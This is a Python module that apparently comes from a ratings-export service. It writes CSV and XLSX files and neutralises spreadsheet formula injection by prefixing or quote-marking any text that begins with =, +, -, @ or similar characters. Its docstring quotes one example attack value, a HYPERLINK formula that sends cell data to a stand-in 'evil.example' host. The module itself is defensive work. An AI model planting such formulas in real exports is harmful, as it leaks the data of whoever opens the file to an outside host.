"""Cells for files people open in a spreadsheet: no formula ever comes from the data.

A kiosk (or anyone holding its token) chooses the text of a rating's fields.
Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also a tab or carriage return followed by one, so a
reason like ``=HYPERLINK("http://evil.example/?"&A1,"Open")`` in an export
would run on the office computer that opens it (CSV injection, OWASP).

:func:`cell` is the one place that decides what a text cell may start with:
every CSV writer (the API export, the dashboard's downloads and
``hymy-collector export``, all through :func:`csv_text`) uses it, and an XLSX
writer must too.  Numbers stay numbers; only text is changed.

Two CSV dialects (:data:`DIALECTS`): ``plain`` (comma, dot decimals, no BOM:
the API's default, unchanged for scripts) and ``excel-nordic`` (``;``, a
UTF-8 byte-order mark and decimal commas: what Excel expects in Finnish,
Swedish or German).  :func:`write_xlsx` writes real XLSX workbooks, a row at
a time (xlsxwriter's ``constant_memory``), so a year of a chain never sits
in memory; formula-like text there keeps its characters and gets Excel's
own "this is text" mark (the quote prefix) instead of an apostrophe.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, time
from typing import Any

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

from sync.clock import parse_utc
from sync.collector.columns import Column

#: A text cell starting with one of these is read as a formula (OWASP's list,
#: plus the full-width forms some spreadsheets also accept).
FORMULA_STARTS = frozenset("=+-@\t\r\n" "\uff1d\uff0b\uff0d\uff20")
#: Characters that make a CSV field need quotes (besides the dialect's delimiter).
_NEEDS_QUOTES = frozenset('"\r\n')
#: First characters worth a closer look (a space may hide a formula after it).
_SUSPECT_STARTS = FORMULA_STARTS | {" "}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula.

    Leading spaces are looked through: some programs trim them on import.
    """
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: formula-like text gets a leading ``'``.

    The apostrophe is what spreadsheets themselves use to say "this is text",
    so the cell shows the original characters and nothing runs.  Numbers,
    booleans and None are returned unchanged: ``-0.5`` stays a number.
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


@dataclass(frozen=True)
class Dialect:
    """How a CSV file separates fields and writes decimals, and whether it starts with a BOM."""

    name: str
    delimiter: str
    decimal: str
    bom: bool

    def number(self, value: float) -> str:
        """A float as this dialect writes it: ``66.7`` or ``66,7``."""
        return repr(value).replace(".", self.decimal)


#: The API's default: the CSV Hymy always wrote, byte for byte.
PLAIN = Dialect("plain", ",", ".", bom=False)
#: What Excel opens right in Finnish, Swedish, German (any locale with a decimal comma).
NORDIC = Dialect("excel-nordic", ";", ",", bom=True)
DIALECTS = {dialect.name: dialect for dialect in (PLAIN, NORDIC)}


def dialect_for(decimal_symbol: str) -> Dialect:
    """The dialect Excel expects where numbers are written with ``decimal_symbol``.

    Excel's list separator is ``;`` wherever the decimal separator is a comma.
    """
    return NORDIC if decimal_symbol == "," else PLAIN


def csv_field(value: Any, dialect: Dialect = PLAIN) -> str:
    """One CSV field: booleans as 0/1, None as empty, text through :func:`cell`.

    A neutralised cell is always quoted (OWASP: prefix *and* quote), as is
    any text with the delimiter, a quote or a line break; quotes inside are doubled.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, int | float):
        return dialect.number(value) if isinstance(value, float) else str(value)
    text = str(value)
    safe = cell(text)
    if safe is not text or dialect.delimiter in safe or any(ch in _NEEDS_QUOTES for ch in safe):
        return '"' + safe.replace('"', '""') + '"'
    return safe


def _plain_value(value: Any, dialect: Dialect) -> Any:
    """A value for the C ``csv`` writer: booleans as 0/1, floats in the dialect's decimals."""
    if value.__class__ is bool:
        return int(value)
    if value.__class__ is float and dialect.decimal != ".":
        return dialect.number(value)
    return value


def csv_writer(dialect: Dialect, header: Sequence[str] | None) -> tuple[io.StringIO, Any]:
    """A text buffer and a C ``csv`` writer of ``dialect`` into it, ``\\n`` after each
    line; the ``header`` row written first (after the byte-order mark of a ``bom`` dialect).

    The buffer translates no line ends (``newline=""``): the same text as the
    default ``"\\n"``, which leaves them alone too but writes rows 3x slower.
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=dialect.delimiter, lineterminator="\n")
    if header is not None:  # column names are ours, never a formula
        buffer.write("\ufeff" if dialect.bom else "")
        writer.writerow(header)
    return buffer, writer


def csv_text(
    items: Iterable[dict[str, Any]], columns: Sequence[str], header: bool = True,
    dialect: Dialect = PLAIN,
) -> str:
    """CSV text with ``columns`` in order, one ``\\n``-terminated line per item.

    Rows without a formula-like cell (nearly all) go through the C ``csv``
    writer; the few others through :func:`csv_field`, which quotes what it
    changed.  Both write the same text for the same ordinary cells.  The
    header of a ``bom`` dialect starts with the UTF-8 byte-order mark.
    """
    buffer, writer = csv_writer(dialect, columns if header else None)
    for item in items:
        row = [item.get(column) for column in columns]
        if any(isinstance(value, str) and value[:1] in _SUSPECT_STARTS
               and is_formula_like(value) for value in row):
            line = dialect.delimiter.join(csv_field(value, dialect) for value in row)
            buffer.write(line + "\n")
        elif dialect.decimal == ".":  # the common case, kept as fast as before dialects
            writer.writerow([int(value) if value.__class__ is bool else value for value in row])
        else:
            writer.writerow([_plain_value(value, dialect) for value in row])
    return buffer.getvalue()


# -- XLSX ----------------------------------------------------------------------

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: Rows an XLSX sheet holds (header included); more continue on "ratings 2", ...
MAX_SHEET_ROWS = 1_048_576
#: Excel number formats of each column type (text, integers and booleans need none).
NUMBER_FORMATS = {
    "float64": "0.0", "timestamp": "yyyy-mm-dd hh:mm:ss.000", "date": "yyyy-mm-dd",
    "time": "hh:mm:ss",
}
#: Bytes per read when a finished workbook is sent.
CHUNK = 1 << 16


@dataclass
class Sheet:
    """One view of an export as a worksheet: its name, its columns and its rows (dicts)."""

    name: str
    columns: Sequence[Column]
    rows: Iterable[dict[str, Any]]


def _cell_writer(
    sheet: Worksheet, column: Column, formats: dict[str, Format]
) -> Callable[[int, int, Any], None]:
    """How a value of ``column`` becomes a typed cell; None always stays a blank cell."""
    kind, number = column.kind, formats.get(column.kind)
    if kind == "string":
        quoted = formats["quoted"]

        def text(row: int, col: int, value: str) -> None:
            if value[:1] in _SUSPECT_STARTS and is_formula_like(value):
                sheet.write_string(row, col, value, quoted)  # text, marked as text
            else:
                sheet.write_string(row, col, value)
        return text
    if kind == "bool":
        return sheet.write_boolean
    if kind in ("int64", "float64"):
        return lambda row, col, value: sheet.write_number(row, col, value, number)
    parse: Callable[[str], Any] = {
        "timestamp": lambda text: parse_utc(text).replace(tzinfo=None),
        "date": date.fromisoformat, "time": time.fromisoformat,
    }[kind]
    return lambda row, col, value: sheet.write_datetime(row, col, parse(value), number)


def _new_sheet(book: xlsxwriter.Workbook, name: str, columns: Sequence[Column],
               formats: dict[str, Format]) -> Worksheet:
    """A worksheet with its column widths and a bold header row frozen above the rows."""
    sheet = book.add_worksheet(name)
    for index, column in enumerate(columns):
        sheet.set_column(index, index, column.width)
    for index, column in enumerate(columns):
        sheet.write_string(0, index, column.name, formats["header"])
    sheet.freeze_panes(1, 0)
    return sheet


def _write_sheet(book: xlsxwriter.Workbook, view: Sheet, formats: dict[str, Format]) -> None:
    """``view``'s rows in order, on as many sheets as :data:`MAX_SHEET_ROWS` needs."""
    names = [column.name for column in view.columns]
    part, row = 1, MAX_SHEET_ROWS
    writers: list[Callable[[int, int, Any], None]] = []
    for item in view.rows:
        if row == MAX_SHEET_ROWS:
            sheet = _new_sheet(book, view.name if part == 1 else f"{view.name} {part}",
                               view.columns, formats)
            writers = [_cell_writer(sheet, column, formats) for column in view.columns]
            part, row = part + 1, 1
        for col, (name, write) in enumerate(zip(names, writers, strict=True)):
            value = item.get(name)
            if value is not None:
                write(row, col, value)
        row += 1
    if part == 1:  # no rows: the header alone
        _new_sheet(book, view.name, view.columns, formats)


def _columns_sheet(book: xlsxwriter.Workbook, views: list[Sheet],
                   formats: dict[str, Format]) -> None:
    """A last sheet that says what each column of each view holds (docs/export.md)."""
    about = (Column("sheet", "string", "", 10), Column("column", "string", "", 16),
             Column("type", "string", "", 10), Column("meaning", "string", "", 80))
    rows = [{"sheet": view.name, "column": column.name, "type": column.kind,
             "meaning": column.meaning} for view in views for column in view.columns]
    _write_sheet(book, Sheet("columns", about, rows), formats)


def write_xlsx(path: str | os.PathLike[str], views: Iterable[Sheet]) -> None:
    """An XLSX workbook at ``path``: a sheet per view, then a sheet describing the columns.

    Cells are typed (numbers, booleans, dates, times and UTC timestamps as
    Excel dates), the header is bold and frozen, and text is only ever
    written as text.  ``constant_memory`` flushes each row to a temporary
    file next to ``path`` as soon as the next one starts, so memory stays
    flat however many rows there are.
    """
    folder = os.path.dirname(os.fspath(path)) or "."
    book = xlsxwriter.Workbook(os.fspath(path), {"constant_memory": True, "tmpdir": folder})
    formats = {kind: book.add_format({"num_format": fmt}) for kind, fmt in NUMBER_FORMATS.items()}
    formats["header"] = book.add_format({"bold": True})
    formats["quoted"] = book.add_format({"quote_prefix": True})
    written: list[Sheet] = []
    for view in views:
        _write_sheet(book, view, formats)
        written.append(view)
    _columns_sheet(book, written, formats)
    book.close()


def xlsx_chunks(views: Iterable[Sheet]) -> Iterator[bytes]:
    """A workbook of ``views`` as bytes to send: built in a temporary file, then read out.

    The file is unlinked as soon as it is open for reading, so nothing is
    left behind even when the client goes away mid-download.
    """
    with tempfile.TemporaryDirectory(prefix="hymy-xlsx-") as folder:
        path = os.path.join(folder, "export.xlsx")
        write_xlsx(path, views)
        finished = open(path, "rb")  # noqa: SIM115 - outlives the folder, closed below
    with finished:
        while chunk := finished.read(CHUNK):
            yield chunk
